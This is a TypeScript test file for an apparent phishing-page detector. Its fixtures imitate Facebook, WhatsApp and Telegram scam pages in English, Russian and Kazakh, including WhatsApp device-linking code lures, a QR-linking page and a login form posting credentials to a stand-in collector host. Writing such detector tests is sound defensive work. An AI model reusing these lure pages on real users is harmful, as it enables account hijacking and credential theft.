import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzePage } from '../analyze-page.ts';
import type { Verdict } from '../types.ts';

// Inert pages written for these tests from the patterns in THREAT.md (no real kit copied).
const page = (title: string, body: string, head = ''): string =>
  `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`;

const rules = (v: Verdict): string[] => v.findings.map((f) => f.rule);

const FB_PHONE_CODE_EN = page('Facebook', `
  <img src="/img/fb-logo.png" alt="Facebook"><h1>Verify your account to view the photo</h1>
  <form id="f"><select name="cc"><option>🇰🇿 +7</option><option>🇷🇺 +7</option><option>🇺🇸 +1</option><option>🇩🇪 +49</option></select>
  <input type="tel" name="phone" placeholder="+7 (___) ___-__-__"><button>Continue</button></form>
  <div class="step2" style="display:none"><p>Enter this code in WhatsApp: Settings → Linked devices → Link with phone number instead</p>
  <div class="code"><span>7</span><span>K</span><span>Q</span><span>2</span><span>-</span><span>M</span><span>9</span><span>X</span><span>D</span></div></div>`,
  '<meta property="og:site_name" content="Facebook">');

test('Facebook photo viewer on a foreign domain: phone + code flow → dangerous ghostpairing', () => {
  const v = analyzePage(FB_PHONE_CODE_EN, 'https://photo-view.world/album/123');
  assert.equal(v.level, 'dangerous');
  assert.equal(v.attack, 'ghostpairing');
  assert.equal(v.brand, 'facebook');
  assert.ok(rules(v).includes('page-flow/brand-number-code'), rules(v).join());
  assert.ok(v.advice.includes('check-linked-devices'));
  // Inline boxes read as one token; only its shape is an indicator, never the characters.
  assert.deepEqual(v.indicators.codes, ['XXXX-XXXX']);
  assert.ok(!JSON.stringify(v).includes('7KQ2'));
});

test('the same page on facebook.com is the official site → safe', () => {
  const v = analyzePage(FB_PHONE_CODE_EN, 'https://www.facebook.com/photo');
  assert.equal(v.level, 'safe');
});

test('Russian WhatsApp verification page with a displayed code → dangerous', () => {
  const html = page('WhatsApp — Подтверждение', `
    <h2>WhatsApp</h2><p>Подтвердите свой аккаунт. Введите номер телефона:</p>
    <label>Номер телефона <input name="num" inputmode="tel"></label>
    <p>Ваш код: <b>4F7K-9QZ2</b></p><p>Введите этот код в WhatsApp → Связанные устройства → Связать по номеру телефона.</p>`);
  const v = analyzePage(html, 'https://wa-verify.top/login/code2');
  assert.equal(v.level, 'dangerous');
  assert.equal(v.attack, 'ghostpairing');
  assert.deepEqual(v.indicators.codes, ['XXXX-XXXX']);
  assert.ok(!JSON.stringify(v).includes('4F7K'), 'the code itself must never appear in the verdict');
});

test('Kazakh vote page asking to authorise with WhatsApp → dangerous', () => {
  const html = page('Байқау — дауыс беріңіз', `
    <h1>Балалар би байқауы</h1><div class="card">Айгерім <button>Дауыс беру</button> 1520</div>
    <div class="card">Аружан <button>Дауыс беру</button> 1411</div>
    <div class="modal">Жалған дауыстарды болдырмау үшін WhatsApp арқылы кіріңіз
    <input type="tel" placeholder="+7"></div>`);
  const v = analyzePage(html, 'https://dauys-beru.live/vote');
  assert.equal(v.level, 'dangerous');
  assert.ok(rules(v).includes('page-vote/messenger-authorisation'), rules(v).join());
});

test('bot pair-code generator → dangerous with pair-code-site-danger advice', () => {
  const html = page('MD Bot Pair Code', `
    <h1>Get your pairing code</h1><p>Enter your WhatsApp number with country code to get a pair code for your bot session.</p>
    <input type="number" id="number" placeholder="254712345678"><button onclick="go()">Get code</button>
    <div id="pair"></div>`);
  const v = analyzePage(html, 'https://my-bot-pair.onrender.com/');
  assert.equal(v.level, 'dangerous');
  assert.equal(v.attack, 'ghostpairing');
  assert.ok(v.advice.includes('pair-code-site-danger'));
});

test('fake WhatsApp Web QR "verification" page → qr-linking', () => {
  const html = page('WhatsApp Web', `<h1>Verify your account</h1><canvas id="qr"></canvas>
    <p>To use WhatsApp on your computer: open WhatsApp, tap Linked devices, and scan the QR code.</p>`);
  const v = analyzePage(html, 'https://whatsapp-secure.xyz/');
  assert.equal(v.level, 'dangerous');
  assert.equal(v.attack, 'qr-linking');
});

test('Telegram Premium gift page with a login code field → telegram-session-theft', () => {
  const html = page('Telegram Premium', `<h1>Telegram Premium в подарок</h1><p>Введите номер телефона</p>
    <input type="tel"><p>Введите код из Telegram</p><input autocomplete="one-time-code" maxlength="5" name="code">`);
  const v = analyzePage(html, 'https://tg-gift.click/');
  assert.equal(v.level, 'dangerous');
  assert.equal(v.attack, 'telegram-session-theft');
});

test('credential form claiming a brand on a free-hosting subdomain → credential-phishing', () => {
  const html = page('Facebook - Log In or Sign Up', `<h2>Log in to Facebook</h2>
    <form action="https://collector.example.net/p.php" method="post"><input name="email"><input type="password" name="pass"><button>Log In</button></form>`);
  const v = analyzePage(html, 'https://facebook-login.weebly.com/');
  assert.equal(v.level, 'dangerous');
  assert.equal(v.attack, 'credential-phishing');
  assert.ok(rules(v).includes('page-credentials/cross-origin-form'));
});

// ---- negatives ----

test('police warning article about GhostPairing (ru) stays below suspicious', () => {
  const html = page('Полиция предупреждает о новой схеме мошенников', `<article><h1>Мошенники захватывают WhatsApp без пароля</h1>
    <p>Злоумышленники присылают ссылку «посмотреть фото». Сайт просит ввести номер телефона, а затем показывает код
    и просит ввести этот код в WhatsApp в разделе «Связанные устройства» → «Связать по номеру телефона».</p>
    <p>Никому не сообщайте коды. Проверьте «Связанные устройства». Полиция: 102. Будьте осторожны, это фишинг.</p></article>`);
  const v = analyzePage(html, 'https://www.zakon.kz/news/12345');
  assert.ok(v.level === 'unknown' || v.level === 'safe', `${v.level} ${rules(v).join()}`);
});

test('English news article with a newsletter phone field and linking words stays below dangerous', () => {
  const html = page('GhostPairing: how scammers hijack WhatsApp | Tech News', `<article><h1>GhostPairing scam explained</h1>
    <p>Victims are told to enter a code in WhatsApp using Link with phone number. Police warn: never share codes. This fraud is spreading.</p>
    <p>Warning: scam pages show a pairing code.</p></article><aside><p>Get alerts by SMS</p><input type="tel" name="phone"></aside>`);
  const v = analyzePage(html, 'https://technews.example.com/ghostpairing');
  assert.notEqual(v.level, 'dangerous', rules(v).join());
});

test('SMS-code page in the name of WhatsApp → code-theft, not the linking flow', () => {
  const html = page('WhatsApp', `<h1>WhatsApp</h1><p>Введите номер телефона</p><input type="tel" placeholder="+7">
    <p>Введите 6-значный код из SMS</p><input name="sms_code" maxlength="6" inputmode="numeric">`);
  const v = analyzePage(html, 'https://wa-support.icu/');
  assert.equal(v.level, 'dangerous');
  assert.equal(v.attack, 'code-theft');
});

test('shop with a WhatsApp contact button stays unknown', () => {
  const html = page('Гүлдер дүкені — Flowers Almaty', `<h1>Flowers</h1><a href="https://wa.me/77001234567" class="btn">Write to us on WhatsApp</a>
    <form action="/order"><input type="tel" name="phone" placeholder="+7"><button>Order</button></form>`);
  const v = analyzePage(html, 'https://flowers-almaty.kz/');
  assert.equal(v.level, 'unknown');
});

test('bot documentation explaining pair codes without handing one out stays below suspicious', () => {
  const html = page('Deploying your WhatsApp bot', `<h1>Docs: session</h1><p>Baileys supports a pairing code:
    call requestPairingCode(number), then enter the code in WhatsApp → Linked devices → Link with phone number instead.</p>
    <pre>const code = await sock.requestPairingCode("number")</pre><p>A code looks like <code>XXXX-XXXX</code>.</p>`);
  const v = analyzePage(html, 'https://docs.botlib.dev/pairing');
  assert.ok(v.level === 'unknown' || v.level === 'safe', `${v.level} ${rules(v).join()}`);
});

test('WhatsApp help page on faq.whatsapp.com is safe', () => {
  const html = page('How to link a device | WhatsApp Help Center', `<h1>How to link a device</h1>
    <p>Open WhatsApp, tap Linked devices, then Link with phone number instead and enter the code shown on the other device.</p>`);
  assert.equal(analyzePage(html, 'https://faq.whatsapp.com/1317564962315842').level, 'safe');
});

test('ordinary login page on its own domain stays unknown', () => {
  const html = page('Sign in | Adagio Teas', `<form action="/login" method="post"><input name="email"><input type="password" name="pw"><button>Sign in</button></form>`);
  assert.equal(analyzePage(html, 'https://www.adagio.com/login').level, 'unknown');
});
